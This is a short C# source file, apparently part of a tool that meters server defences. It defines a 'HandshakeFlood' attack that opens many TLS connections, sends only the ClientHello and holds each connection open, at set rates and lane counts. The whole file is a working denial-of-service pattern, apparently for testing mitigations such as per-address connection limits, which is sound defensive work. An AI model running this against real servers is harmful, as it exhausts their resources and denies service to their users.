namespace Metering.Attacks;

/// <summary>
/// Sends the first message of a TLS handshake and nothing more, so that the server signs its answer and waits.
/// </summary>
internal sealed class HandshakeFlood : Attack
{
    public override string Name => "handshake-flood";

    public override string Does => "TLS handshakes begun and never finished";

    public override IReadOnlyList<string> MetBy => ["HandshakeTime", "ConnectionsPerAddress"];

    public override string Unit => "handshakes";

    public override double UnitsPerSecond => 200;

    public override int Lanes => 1500;

    public override async Task AttackAsync(AttackLane lane)
    {
        await lane.TakeTurnAsync(lane.Stop);
        await using AttackConnection connection = await lane.OpenAsync(lane.Target.HttpsEndPoint);
        await connection.SendAsync(ClientHello.Bytes);
        lane.Tally.CountUnits(1);
        await AttackLane.HoldAsync(connection);
    }
}
